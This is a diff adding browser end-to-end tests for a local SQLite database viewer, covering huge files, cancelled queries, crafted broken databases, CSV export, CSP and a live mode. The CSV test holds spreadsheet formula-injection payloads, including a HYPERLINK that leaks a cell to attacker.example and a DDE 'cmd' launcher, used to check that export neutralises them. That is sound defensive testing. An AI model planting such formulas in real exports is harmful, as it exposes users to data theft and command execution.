@@ -5,7 +5,8 @@
 // Environment: MOTUS_TOOLS_DIR (node_modules with playwright-core and better-sqlite3; default
 // <repo>/tools), MOTUS_BIN (the native motus binary; optional), MOTUS_FIXTURES (default
 // <repo>/../shared/fixtures), MOTUS_WEB_DIST (default web/viewer/dist), MOTUS_ARTIFACTS (default
-// <repo>/test-artifacts/browser), MOTUS_BIG_DB_MB (size of the generated large database, default 100).
+// <repo>/test-artifacts/browser), MOTUS_BIG_DB_MB (size of the generated large database, default 100),
+// MOTUS_HUGE_DB_MB (size of the generated database over 2 GiB, default 2200; it is deleted after).
 
 import http from 'node:http';
 import fs from 'node:fs';
@@ -141,7 +142,8 @@ const mime = { '.html': 'text/html; charset=utf-8', '.js': 'text/javascript', '.
 let origin;
 let stopServer;
 if (motusBin && process.env.MOTUS_E2E_SERVER !== 'node') {
-  const child = spawn(motusBin, ['view', '--port', '0', '--dir', dist], { stdio: ['ignore', 'pipe', 'inherit'] });
+  // No live database for this session (the live test starts its own server).
+  const child = spawn(motusBin, ['--db', path.join(tmp, 'absent.db'), 'view', '--port', '0', '--dir', dist], { stdio: ['ignore', 'pipe', 'inherit'] });
   origin = await new Promise((resolve, reject) => {
     const timer = setTimeout(() => reject(new Error('motus view did not print its address within 10 s')), 10000);
     child.stdout.on('data', (d) => {
@@ -239,6 +241,9 @@ await test('the populated fixture opens and the overview shows counts matching t
   const t0 = Date.now();
   await openFile(populated);
   await waitLoaded('overview');
+  figures.populated_open_to_first_screen_ms = Date.now() - t0;
+  await page.waitForSelector('#ready-count');
+  await page.waitForSelector('#recent-panel tr');
   figures.populated_open_to_overview_ms = Date.now() - t0;
   const n = async (sel) => Number((await text(sel)).trim());
   eq(await n('[data-count="roadmap_items"] .n'), pop.items, 'roadmap items');
@@ -450,9 +455,220 @@ await test(`a ${bigMb} MB database opens off the main thread with progress`, asy
     return { maxGap: g, progress: [...window.__progress] };
   });
   figures.big_open_longest_main_thread_gap_ms = Math.round(maxGap);
-  ok(progress.some((p) => /Reading file/.test(p)), `progress shown: ${progress.join(' / ')}`);
-  ok(maxGap < 1000, `the page kept responding (longest frame gap ${Math.round(maxGap)} ms)`);
+  // Read in place: opening reads a few pages, not the file.
+  const bytesRead = Number(await page.getAttribute('#open-timing', 'data-bytes-read'));
+  figures.big_open_bytes_read = bytesRead;
+  ok(bytesRead > 0 && bytesRead < figures.big_db_bytes / 20, `opening read ${bytesRead} of ${figures.big_db_bytes} bytes`);
+  ok(maxGap < 1000, `the page kept responding (longest frame gap ${Math.round(maxGap)} ms; progress: ${progress.join(' / ')})`);
   await shot('16-big-overview');
+});
+
+
+// ---------------------------------------------------------------------------------------------
+// Files the viewer must survive. Each is made by Python's sqlite3 (a real SQLite).
+function makeDb(file, script, ...args) {
+  python(`
+import sqlite3, sys
+src = sqlite3.connect('file:' + sys.argv[1] + '?mode=ro&immutable=1', uri=True)
+dst = sqlite3.connect(sys.argv[2])
+src.backup(dst)
+dst.execute("PRAGMA journal_mode=DELETE")
+${script}
+dst.commit()
+dst.close()
+`, populated, file, ...args);
+  return file;
+}
+
+await test('a link that carries a console statement does not run it; it waits for Run', async () => {
+  const endless = 'WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c';
+  await page.evaluate((h) => { location.hash = h; }, `#/console?sql=${encodeURIComponent(endless)}`);
+  await openFile(populated);
+  await page.waitForSelector('#console-from-link');
+  eq(await page.inputValue('#sql'), endless, 'the statement is filled in');
+  eq(await page.locator('#console-result').count(), 0, 'nothing ran');
+  // The worker is free: another page answers at once.
+  await goto('#/overview', 'overview');
+});
+
+await test('Cancel stops an endless console query and the viewer keeps working', async () => {
+  await page.evaluate(() => { location.hash = '#/console'; });
+  await page.waitForSelector('#sql');
+  await page.fill('#sql', 'WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c');
+  await page.click('#run-sql');
+  await page.waitForSelector('#cancel-query', { timeout: 10000 });
+  await page.waitForTimeout(500);
+  await page.click('#cancel-query');
+  await page.waitForSelector('#console-error[data-code="cancelled"]', { timeout: 10000 });
+  await page.fill('#sql', 'SELECT count(*) FROM roadmap_items WHERE deleted_at IS NULL');
+  await page.click('#run-sql');
+  await page.waitForSelector('#console-result', { timeout: 20000 });
+  eq((await page.locator('#console-result tr.data-row td').first().innerText()).trim(), String(pop.items), 'the same file answers after Cancel');
+});
+
+await test('EXPLAIN of a PRAGMA cannot change the connection', async () => {
+  for (const bad of ['EXPLAIN PRAGMA query_only = 0', 'EXPLAIN PRAGMA hard_heap_limit = 1000', 'explain query plan pragma foreign_keys = off', 'PRAGMA main.query_only = 0']) {
+    await page.fill('#sql', bad);
+    await page.click('#run-sql');
+    await page.waitForSelector('#console-error');
+    ok(/console only reads/.test(await text('#console-error')), `refused: ${bad}`);
+  }
+  await page.fill('#sql', 'PRAGMA query_only');
+  await page.click('#run-sql');
+  await page.waitForSelector('#console-result');
+  eq((await page.locator('#console-result tr.data-row td').first().innerText()).trim(), '1', 'query_only is still on');
+  // Pages still work (a tiny heap limit would have broken them).
+  await goto('#/roadmap', 'roadmap');
+});
+
+await test('a self-loop and a dense cyclic graph are drawn without stopping the worker', async () => {
+  // A crafted (or hand-edited) file: the original's guards against this are removed first.
+  const loops = makeDb(path.join(tmp, 'cycles.db'), `
+dst.execute("DROP TRIGGER roadmap_dep_no_cycles")
+dst.execute("DROP TRIGGER enforce_phase_limit")
+dst.execute("PRAGMA ignore_check_constraints = ON")
+ids = [r[0] for r in dst.execute("SELECT id FROM roadmap_items WHERE deleted_at IS NULL ORDER BY id LIMIT 1")]
+dst.execute("INSERT INTO roadmap_dependencies (item_id, depends_on_id, dependency_type) VALUES (?, ?, 'blocks')", (ids[0], ids[0]))
+for i in range(400):
+    dst.execute("INSERT INTO roadmap_items (id, phase_key, title, status_key) VALUES (?, 'phase_x', ?, 'pending')", ('CYC-%03d' % i, 'cycle item %d' % i))
+seen = set()
+for i in range(400):
+    for k in (1, 7, 131):
+        a, b = 'CYC-%03d' % i, 'CYC-%03d' % ((i + k) % 400)
+        dst.execute("INSERT OR IGNORE INTO roadmap_dependencies (item_id, depends_on_id, dependency_type) VALUES (?, ?, 'blocks')", (a, b))
+`);
+  await openFile(loops);
+  await goto('#/graph', 'graph');
+  ok(/depend on themselves/.test(await text('#graph-self-loops')), 'the self-loop is named');
+  await page.waitForSelector('#graph-cycle');
+  const drawn = await page.locator('svg#dep-graph g.node').count();
+  ok(drawn >= 400 && drawn <= 600, `every cycle item drawn, within the cap: ${drawn}`);
+  ok(/\d+ items/.test(await text('#graph-count')), `counts said: ${await text('#graph-count')}`);
+  eq(await page.locator('#worker-error').count(), 0, 'the worker did not stop');
+  await shot('17-graph-cycles');
+});
+
+await test('a broken view, an unknown virtual table and an endless view do not break the Tables page', async () => {
+  const broken = makeDb(path.join(tmp, 'broken.db'), `
+dst.execute("CREATE VIEW broken_view AS SELECT nope FROM roadmap_items")
+dst.execute("CREATE VIEW endless_view AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT x FROM c")
+dst.execute("PRAGMA writable_schema = ON")
+dst.execute("INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) VALUES ('table', 'alien', 'alien', 0, 'CREATE VIRTUAL TABLE alien USING no_such_module(x)')")
+dst.execute("PRAGMA writable_schema = OFF")
+`);
+  await openFile(broken);
+  await goto('#/tables', 'tables');
+  await page.waitForSelector('tr[data-object-row="roadmap_items"] .row-count', { timeout: 30000 });
+  ok(Number(await page.getAttribute('tr[data-object-row="roadmap_items"] .row-count', 'data-count')) >= pop.items, 'tables still counted');
+  ok(/cannot be read/.test(await text('tr[data-object-row="broken_view"]')), 'the broken view says so');
+  ok(/cannot be read|not counted/.test(await text('tr[data-object-row="alien"]')), 'the unknown module says so');
+  // The endless view: its page stops at the time budget with a clear message; the rest works.
+  await page.evaluate(() => { location.hash = '#/table/endless_view'; });
+  await page.waitForSelector('[data-page="tables"] .error[data-code="timeout"]', { timeout: 40000 });
+  ok(/Stopped after/.test(await text('[data-page="tables"] .error[data-code="timeout"]')), 'the time budget is explained');
+  await goto('#/table/roadmap_items', 'tables');
+  await page.waitForSelector('#row-total');
+  await shot('18-broken-objects');
+});
+
+await test('a huge cell travels by its size, not its content', async () => {
+  const huge = makeDb(path.join(tmp, 'hugecell.db'), `
+dst.execute("CREATE TABLE attachments (id INTEGER PRIMARY KEY, name TEXT, body BLOB)")
+dst.execute("INSERT INTO attachments (name, body) VALUES ('big', zeroblob(280 * 1024 * 1024)), ('small', x'0102')")
+`);
+  await openFile(huge);
+  await goto('#/table/attachments', 'tables');
+  await page.waitForSelector('tr.data-row .large');
+  ok(/280\.0 MiB/.test(await text('tr.data-row .large')), `size shown: ${await text('tr.data-row .large')}`);
+  ok(/2 bytes/.test(await text('tr.data-row:nth-child(2)')), 'a small blob is shown');
+  fs.rmSync(huge);
+});
+
+await test('CSV export neutralises spreadsheet formulas', async () => {
+  const formulas = makeDb(path.join(tmp, 'formulas.db'), `
+dst.execute("CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT, n INTEGER)")
+for b in ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', '@SUM(1+1)*cmd|" /C calc"!A0', '+1+1', '-2+3', '\\t=1', 'plain']:
+    dst.execute("INSERT INTO notes (body, n) VALUES (?, -5)", (b,))
+`);
+  await openFile(formulas);
+  await goto('#/table/notes', 'tables');
+  const [dl] = await Promise.all([page.waitForEvent('download'), page.click('#export-csv')]);
+  const lines = fs.readFileSync(await dl.path(), 'utf8').trim().split('\r\n').slice(1);
+  eq(lines.length, 6, 'rows exported');
+  for (const l of lines.slice(0, 5)) {
+    const field = l.split(',').slice(1, -1).join(',').replace(/^"/, '');
+    ok(field.startsWith("'"), `formula neutralised: ${l}`);
+  }
+  ok(lines[5].endsWith('plain,-5'), `plain text and numbers untouched: ${lines[5]}`);
+});
+
+await test('the Content-Security-Policy allows no inline script, and the page runs none', async () => {
+  const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
+  const script = /script-src ([^;]*)/.exec(csp)[1];
+  ok(!script.includes("'unsafe-inline'") && !script.includes("'unsafe-eval'"), `script-src: ${script}`);
+  ok(/connect-src 'self'/.test(csp), 'connections only to the own origin');
+  eq(await page.evaluate(() => document.querySelectorAll('script:not([src])').length), 0, 'no inline <script>');
+});
+
+await test('a WAL-mode file opens without its -wal (with a notice) and with it (changes applied)', async () => {
+  const dir = path.join(tmp, 'wal');
+  fs.mkdirSync(dir);
+  python(`
+import sqlite3, sys, shutil, os
+src = sqlite3.connect('file:' + sys.argv[1] + '?mode=ro&immutable=1', uri=True)
+live = os.path.join(sys.argv[2], 'live.db')
+dst = sqlite3.connect(live)
+src.backup(dst)
+dst.execute("PRAGMA journal_mode=WAL")
+dst.execute("PRAGMA wal_autocheckpoint=0")
+dst.execute("PRAGMA wal_checkpoint(TRUNCATE)")
+for i in range(25):
+    dst.execute("INSERT INTO roadmap_items (id, phase_key, title, status_key) VALUES (?, 'phase_x', ?, 'pending')", ('WAL-%02d' % i, 'only in the wal %d' % i))
+    dst.commit()
+# Copy while the writer is still open, so the changes are only in the -wal.
+shutil.copyfile(live, os.path.join(sys.argv[2], 'copy.db'))
+shutil.copyfile(live + '-wal', os.path.join(sys.argv[2], 'copy.db-wal'))
+dst.close()
+`, populated, dir);
+  const copy = path.join(dir, 'copy.db');
+  await openFile(copy);
+  await goto('#/overview', 'overview');
+  ok(/WAL mode/.test(await text('#db-notice')), `notice about the -wal: ${await text('#db-notice')}`);
+  eq(Number((await text('[data-count="roadmap_items"] .n')).trim()), pop.items, 'without the -wal: the main file as it is');
+  await page.setInputFiles('#dbfile', [copy, copy + '-wal']);
+  await page.waitForFunction(() => /Applied/.test(document.querySelector('#db-notice')?.textContent || ''), null, { timeout: 30000 });
+  await waitLoaded('overview');
+  eq(Number((await text('[data-count="roadmap_items"] .n')).trim()), pop.items + 25, 'with the -wal: every committed change');
+  await shot('19-wal-applied');
+});
+
+const hugeMb = Number(process.env.MOTUS_HUGE_DB_MB || 2200);
+await test(`a database over 2 GiB (${hugeMb} MB) opens in place and shows its overview`, async () => {
+  const huge = path.join(tmp, 'huge.db');
+  const t0 = Date.now();
+  makeDb(huge, `
+dst.execute("PRAGMA journal_mode=OFF")
+dst.execute("PRAGMA synchronous=OFF")
+dst.execute("CREATE TABLE padding (id INTEGER PRIMARY KEY, body BLOB)")
+for i in range(int(sys.argv[3]) // 100):
+    dst.execute("INSERT INTO padding (body) VALUES (zeroblob(100 * 1000 * 1000))")
+# Rows written last live in pages past 2 GiB: the overview must read them.
+for i in range(7):
+    dst.execute("INSERT INTO roadmap_items (id, phase_key, title, status_key) VALUES (?, 'phase_x', ?, 'pending')", ('FAR-%d' % i, 'far item %d' % i))
+`, String(hugeMb));
+  figures.huge_db_generate_ms = Date.now() - t0;
+  figures.huge_db_bytes = fs.statSync(huge).size;
+  ok(figures.huge_db_bytes > 2 * 1024 ** 3, `over 2 GiB: ${figures.huge_db_bytes}`);
+  await page.evaluate(() => { location.hash = '#/overview'; });
+  const t1 = Date.now();
+  await openFile(huge);
+  await waitLoaded('overview');
+  figures.huge_open_to_first_screen_ms = Date.now() - t1;
+  eq(Number((await text('[data-count="roadmap_items"] .n')).trim()), pop.items + 7, 'items including those past 2 GiB');
+  await page.waitForSelector('#ready-count');
+  figures.huge_open_bytes_read = Number(await page.getAttribute('#open-timing', 'data-bytes-read'));
+  await shot('20-huge-overview');
+  fs.rmSync(huge);
 });
 
 await test('after load nothing leaves the browser: no other origin, no request with a body', async () => {
@@ -460,11 +676,48 @@ await test('after load nothing leaves the browser: no other origin, no request w
   const withBody = afterLoad.filter((r) => r.body || r.method !== 'GET');
   eq(foreignReqs.length, 0, `requests to another origin: ${JSON.stringify(foreignReqs.slice(0, 5))}`);
   eq(withBody.length, 0, `requests with a body: ${JSON.stringify(withBody.slice(0, 5))}`);
-  const nonStatic = afterLoad.filter((r) => r.url.startsWith(origin) && !/\/(index\.html|worker\.js|boot\.js|motus-viewer\.js|motus-viewer_bg\.wasm|style\.css)?(\?.*)?(#.*)?$/.test(new URL(r.url).pathname));
+  const nonStatic = afterLoad.filter((r) => r.url.startsWith(origin) && !/\/(index\.html|worker\.js|boot\.js|motus-viewer\.js|motus-viewer_bg\.wasm|style\.css|live\/info)?(\?.*)?(#.*)?$/.test(new URL(r.url).pathname));
   eq(nonStatic.length, 0, `only the viewer's own files were fetched: ${JSON.stringify(nonStatic.slice(0, 5))}`);
   const errors = consoleErrors.filter((e) => !/Failed to load resource/.test(e));
   eq(errors.length, 0, `console errors: ${errors.join(' | ')}`);
 });
+
+if (motusBin) {
+  await test('motus view shows its live database, and after a CLI write and a reload the new state', async () => {
+    const liveDb = path.join(tmp, 'live-coordination.db');
+    execFileSync(motusBin, ['--db', liveDb, 'db', 'init'], { stdio: 'pipe' });
+    const child = spawn(motusBin, ['--db', liveDb, 'view', '--port', '0', '--dir', dist], { stdio: ['ignore', 'pipe', 'inherit'] });
+    try {
+      const liveOrigin = await new Promise((resolve, reject) => {
+        const timer = setTimeout(() => reject(new Error('motus view did not print its address within 10 s')), 10000);
+        child.stdout.on('data', (d) => {
+          const m = /http:\/\/(127\.0\.0\.1:\d+)\//.exec(String(d));
+          if (m) { clearTimeout(timer); resolve(`http://${m[1]}`); }
+        });
+      });
+      const p2 = await context.newPage();
+      const ranges = [];
+      p2.on('request', (r) => { if (r.url().includes('/live/snapshot/')) ranges.push(r.headers().range || ''); });
+      await p2.goto(`${liveOrigin}/index.html#/overview`);
+      await p2.waitForSelector('#live-badge', { timeout: 30000 });
+      await p2.waitForSelector('[data-page="overview"] .loaded', { timeout: 30000 });
+      eq(await p2.locator('[data-page="open"]').count(), 0, 'no file picker needed');
+      const leasesBefore = Number((await p2.textContent('#active-lease-count')).trim());
+      ok(ranges.length > 0 && ranges.every((r) => /^bytes=\d+-\d+$/.test(r)), `read by range requests: ${ranges.slice(0, 3)}`);
+      const run = (...a) => execFileSync(motusBin, ['--db', liveDb, '--json', ...a], { encoding: 'utf8', stdio: 'pipe' });
+      run('work', 'claim', 'ADHOC-LIVE-001', '--intent', 'live view test');
+      await p2.reload();
+      await p2.waitForSelector('#live-badge', { timeout: 30000 });
+      await p2.waitForSelector('[data-page="overview"] .loaded', { timeout: 30000 });
+      eq(Number((await p2.textContent('#active-lease-count')).trim()), leasesBefore + 1, 'the new lease shows after a reload');
+      await p2.screenshot({ path: path.join(artifacts, '21-live.png') });
+      await p2.close();
+    } finally {
+      child.kill();
+    }
+  });
+}
+
 
 await context.close();
 stopServer();
